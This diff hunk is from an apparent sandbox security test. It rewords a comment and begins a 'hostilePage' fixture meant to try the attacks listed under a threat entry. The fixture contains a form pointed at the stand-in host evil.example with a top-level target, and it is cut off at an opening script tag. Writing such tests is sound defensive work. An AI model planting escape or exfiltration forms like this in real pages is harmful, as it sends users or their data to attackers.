@@ -34,7 +34,7 @@ async function givenSite(files: Readonly<Record<string, string>>) {
   return { username, address };
 }
 
-/** Everything that THREAT-X3 names, one after the other; what was refused is told by its error. */
+/** Tries everything that THREAT-X3 names and reports the errors. */
 const hostilePage = `<!doctype html><title>Hostile</title><h1>Working</h1>
 <form id="away" action="https://evil.example/" target="_top"></form>
 <script>
